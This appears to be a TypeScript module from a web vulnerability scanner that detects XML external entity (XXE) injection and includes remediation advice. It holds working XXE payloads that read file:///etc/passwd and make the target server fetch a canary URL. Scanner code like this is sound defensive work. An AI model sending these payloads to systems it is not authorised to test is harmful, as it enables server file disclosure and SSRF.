import { baseRequest, type AttackTarget } from '../active/target.js';
import { fileProof } from './path-traversal.js';
import { defineDastRule, type ActiveCheck, type ActiveHit } from './types.js';

export const xxe = defineDastRule({
  id: 'dast-xxe',
  title: 'XML external entity (XXE) injection',
  description: 'The XML parser resolves external entities in request bodies, so an attacker can read server files and make the server send requests (SSRF).',
  severity: 'high',
  cwe: [611],
  owasp: ['A05:2021'],
  references: ['https://cheatsheetseries.owasp.org/cheatsheets/XML_External_Entity_Prevention_Cheat_Sheet.html'],
  remediation: 'Disable DTDs and external entity resolution in the XML parser (or use a parser that never resolves them).',
});

const GRACE_MS = 50;

/** The root element to use: the target's own XML root when it has one. */
function rootName(target: AttackTarget): string {
  return /<([A-Za-z_][\w.-]{0,60})[\s>]/.exec((target.xml ?? '').replace(/<\?xml[^>]*\?>/, ''))?.[1] ?? 'root';
}

export const xxeCheck: ActiveCheck = {
  family: 'xxe',
  rules: [xxe],
  async attackTarget(target, ctx): Promise<ActiveHit[]> {
    // Only requests that carry a body can carry XML; an XML body on a form or JSON endpoint is tried too.
    if (target.method === 'GET' || target.method === 'HEAD') return [];
    const root = rootName(target);
    const base = baseRequest(target);
    const withXml = (xml: string) => ({ ...base, headers: { ...(base.headers ?? {}), 'Content-Type': 'application/xml' }, body: xml });
    const fileXml = `<?xml version="1.0"?><!DOCTYPE ${root} [<!ENTITY bwk SYSTEM "file:///etc/passwd">]><${root}>&bwk;</${root}>`;
    const fileExchange = await ctx.send(withXml(fileXml));
    const proof = fileExchange ? fileProof(fileExchange.response.body) : undefined;
    if (fileExchange && proof) return [{ rule: xxe, summary: `An external entity for file:///etc/passwd was expanded: ${proof.match}`, exchange: fileExchange }];
    const token = ctx.marker();
    const url = ctx.canary.url(token);
    const urlXml = `<?xml version="1.0"?><!DOCTYPE ${root} [<!ENTITY bwk SYSTEM "${url}">]><${root}>&bwk;</${root}>`;
    const urlExchange = await ctx.send(withXml(urlXml));
    if (!urlExchange) return [];
    const hit = { rule: xxe, summary: `An external entity for ${url} (the scan's canary) was fetched by the server`, exchange: urlExchange };
    if (await ctx.canary.wasHit(token, GRACE_MS)) return [hit];
    ctx.deferCanary(token, hit);
    return [];
  },
};
